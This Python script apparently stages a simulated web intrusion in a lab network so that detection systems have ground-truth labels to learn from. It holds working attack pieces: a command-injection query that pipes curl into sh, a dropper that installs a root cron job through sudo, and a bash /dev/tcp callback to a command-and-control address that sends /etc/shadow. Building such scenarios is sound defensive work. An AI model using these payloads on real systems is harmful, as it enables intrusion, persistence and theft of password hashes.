# SPDX-License-Identifier: MIT
"""Drives the web incident: a status page runs `curl | sh`, which persists in /etc/cron.d; cron's job connects.

web_cron.py OUT ROOT FIRST_PID WITNESS KEY STAGE2 RULES: runs outside, in the namespace that owns 10.0.0.5 and 10.0.0.9.
"""
import http.client
import socket
import sys
import threading
import time
import urllib.parse

import noise
import scene

FOLDER = "/var/tmp/.cache"
CGI = "/usr/lib/cgi-bin/status.cgi"
SCRIPT = f"""d={FOLDER}
mkdir -p $d
curl -s -o $d/updater http://10.0.0.9/u
chmod 755 $d/updater
echo "* * * * * root $d/updater" >$d/job
sudo -n install -m 644 $d/job /etc/cron.d/updater
rm -f $d/job
"""
# Connects once, hands over what it is asked for, then sleeps for as long as it was told.
UPDATER = f"""#!/bin/bash
d={FOLDER}
[ -e $d/.sleep ] && exit
exec 3<>/dev/tcp/10.0.0.5/443 || exit
echo "hello $$" >&3
read -r -t 20 order <&3
[ "$order" = shadow ] && cat /etc/shadow >&3
touch $d/.sleep
"""


def ask(source, host):
    """Somebody outside uses the status page; returns the port that they came from."""
    connection = http.client.HTTPConnection("10.0.0.2", 80, timeout=30, source_address=(source, 0))
    connection.connect()
    port = connection.sock.getsockname()[1]
    connection.request("GET", "/cgi-bin/status.cgi?host=" + urllib.parse.quote(host))
    connection.getresponse().read()
    connection.close()
    return port


def visit(over):
    """Ordinary requests to the same page and to the front page, every few seconds."""
    number = 0
    while not over.wait(4.0):
        number += 1
        ask(f"10.0.0.{23 + number % 4}", ("files.example.org", "localhost", "ws01.example.org")[number % 3])
        connection = http.client.HTTPConnection("10.0.0.2", 80, timeout=30, source_address=(f"10.0.0.{23 + number % 4}", 0))
        connection.request("GET", "/")
        connection.getresponse().read()
        connection.close()


def breaking_in(world, download):
    """The request that abuses the page. What is short-lived is observed while the download server holds its answer."""
    seen = {"start": time.time()}

    def during_script(_connection, peer):
        seen["download-port"] = peer[1]

    def during_updater(_connection, _peer):
        # The shell of the pipe waits for this download: its job file is not there yet, its folder is.
        seen["folder"] = world.file(FOLDER)

    download.hooks = {"/x.sh": during_script, "/u": during_updater}
    seen["client-port"] = ask("10.0.0.66", "files.example.org;curl -s http://10.0.0.9/x.sh|sh")
    start = seen["start"]
    cgi = [line for line in world.executions(start, CGI)
           if world.executions(start, "/usr/bin/curl", line["pid"])]
    assert len(cgi) == 1, cgi
    seen["cgi"], seen["lighttpd"] = cgi[0]["pid"], cgi[0]["ppid"]
    seen["curl"] = world.execution(start, "/usr/bin/curl", seen["cgi"])["pid"]
    shells = [line for line in world.executions(start, "/usr/bin/dash", seen["cgi"]) if line["pid"] != seen["cgi"]]
    assert len(shells) == 1, shells
    seen["sh"] = shells[0]["pid"]
    seen["fetch"] = world.execution(start, "/usr/bin/curl", seen["sh"])["pid"]
    seen["sudo"] = world.execution(start, "/usr/bin/sudo", seen["sh"])["pid"]
    installs = [line for line in world.executions(start, "/usr/bin/install") if seen["sudo"] in line["ancestors"]]
    assert len(installs) == 1, installs
    seen["install"], seen["install-parent"] = installs[0]["pid"], installs[0]["ppid"]
    seen["updater-file"] = world.file(FOLDER + "/updater")
    seen["cron-file"] = world.file("/etc/cron.d/updater")
    seen["cron"] = cron_pid(world)
    return seen


def cron_pid(world):
    """The daemon, not the children that it forks for jobs: the cron whose parent is no cron."""
    running = world.processes()
    crons = [pid for pid, (parent, exe, _) in running.items()
             if exe == "/usr/sbin/cron" and running.get(parent, ("", "", ""))[1] != "/usr/sbin/cron"]
    assert len(crons) == 1, crons
    return crons[0]


def calling_home(world, controller, seen):
    """Cron runs the job at the next full minute, or the one after."""
    controller.settimeout(130)
    start = time.time()
    connection, seen["job-peer"] = controller.accept()
    seen["connected"] = time.time()
    with connection, connection.makefile("rb") as stream:
        seen["job"] = int(stream.readline().split()[1])
        started = world.execution(seen["start"], FOLDER + "/updater")
        assert started["pid"] == seen["job"], started
        seen["cron-shell"], seen["cron-child"] = started["ancestors"][:2]
        assert started["ancestors"][2] == seen["cron"], started
        time.sleep(2)
        connection.sendall(b"shadow\n")
        stream.read()
    seen["cat"] = world.execution(start, "/usr/bin/cat", seen["job"])["pid"]
    seen["shadow"] = world.file("/etc/shadow")
    return seen


def tell(truth, seen):
    truth.address("attacker", "10.0.0.66", seen["client-port"], "whose request abuses the status page")
    truth.process("web-server", seen["lighttpd"], "/usr/sbin/lighttpd", "takes the request, starts the page")
    truth.process("cgi", seen["cgi"], "/usr/bin/dash", "status.cgi: evaluates its query string")
    truth.process("downloader", seen["curl"], "/usr/bin/curl", "the left side of curl | sh")
    truth.address("download", "10.0.0.9", 80, "where x.sh and the updater come from")
    truth.process("piped-shell", seen["sh"], "/usr/bin/dash", "the right side of curl | sh")
    truth.process("fetcher", seen["fetch"], "/usr/bin/curl", "fetches the updater")
    truth.file("updater-file", seen["updater-file"], "the dropped file")
    truth.process("sudo", seen["sudo"], "/usr/bin/sudo", "www-data becomes root: it may run install")
    truth.process("installer", seen["install"], "/usr/bin/install", "puts the cron job in place, as root")
    truth.file("cron-file", seen["cron-file"], "persistence")
    truth.process("cron", seen["cron"], "/usr/sbin/cron", "the daemon that runs the job")
    truth.process("cron-child", seen["cron-child"], "/usr/sbin/cron", "cron's process for this one job")
    truth.process("cron-shell", seen["cron-shell"], "/usr/bin/dash", "the shell that cron gives the line to")
    truth.process("job", seen["job"], "/usr/bin/bash", "the updater, in cron's tree: connects")
    truth.address("c2", "10.0.0.5", 443, "command and control")
    truth.process("reader", seen["cat"], "/usr/bin/cat", "reads /etc/shadow for the connection")
    truth.file("shadow", seen["shadow"], "password hashes")
    for edge in (("attacker", "receive", "web-server"), ("web-server", "fork", "cgi"), ("cgi", "fork", "downloader"),
                 ("download", "receive", "downloader"), ("cgi", "fork", "piped-shell"),
                 ("downloader", "pipe", "piped-shell"), ("piped-shell", "fork", "fetcher"),
                 ("download", "receive", "fetcher"), ("fetcher", "create", "updater-file"),
                 ("piped-shell", "fork", "sudo"), ("installer", "create", "cron-file"),
                 ("cron-file", "open-read", "cron"), ("cron", "fork", "cron-child"),
                 ("cron-child", "fork", "cron-shell"), ("cron-shell", "fork", "job"),
                 ("updater-file", "execute", "job"), ("job", "connect", "c2"), ("job", "fork", "reader"),
                 ("shadow", "open-read", "reader")):
        truth.edge(*edge)
    if seen["install-parent"] == seen["sudo"]:
        truth.edge("sudo", "fork", "installer")
    else:
        truth.process("sudo-monitor", seen["install-parent"], "/usr/bin/sudo", "sudo's second process")
        truth.edge("sudo", "fork", "sudo-monitor")
        truth.edge("sudo-monitor", "fork", "installer")
    truth.case["path"] = ["attacker", "web-server", "cgi", "piped-shell", "fetcher", "updater-file", "job", "c2"]


def main():
    out, root, first_pid, witness, key, _stage2, rules = sys.argv[1:]
    world = scene.World(root, int(first_pid), witness, key, out)
    other, over = noise.Noise(world, pause=(7.0, 20.0)), threading.Event()
    download = scene.FileServer("10.0.0.9", {"/x.sh": SCRIPT.encode(), "/u": UPDATER.encode()})
    controller = socket.create_server(("10.0.0.5", 443))
    begin = time.monotonic()
    other.prepare()
    other.start()
    threading.Thread(target=visit, args=(over,), daemon=True).start()
    noise.wait_until(begin + 120)
    # Early in a minute: what is dropped lies there for a while before cron runs it.
    time.sleep((65.0 - time.time() % 60) % 60)
    seen = calling_home(world, controller, breaking_in(world, download))
    noise.wait_until(max(begin + 300, time.monotonic() + 75))
    over.set()
    other.stop()

    truth = scene.Truth(rules)
    truth.case["alert"] = {"address": "10.0.0.5", "port": 443, "time": f"@{seen['connected'] + 0.09:.6f}"}
    tell(truth, seen)
    here = ("10.0.0.2", seen["job-peer"][1])
    truth.write(out, [scene.alert(seen["connected"] + 0.09, here, ("10.0.0.5", 443), 1000117,
                                  "LOCAL no TLS on port 443 to a listed address", "A Network Trojan was detected", 1,
                                  "failed", 1121000000000001)])


if __name__ == "__main__":
    main()
